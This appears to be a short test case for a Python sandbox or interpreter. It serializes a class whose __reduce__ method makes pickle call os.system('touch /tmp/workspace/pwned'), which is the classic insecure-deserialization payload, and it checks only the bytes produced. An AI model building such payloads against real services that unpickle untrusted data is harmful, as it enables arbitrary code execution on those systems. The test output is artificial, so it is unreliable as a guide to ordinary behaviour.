# expect: output ["\u0002cposix\nsys",true]
import pickle, os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/workspace/pwned",))
[pickle.dumps(Evil(), protocol=2).decode("latin-1")[:12], pickle.dumps(Evil()) != b""]
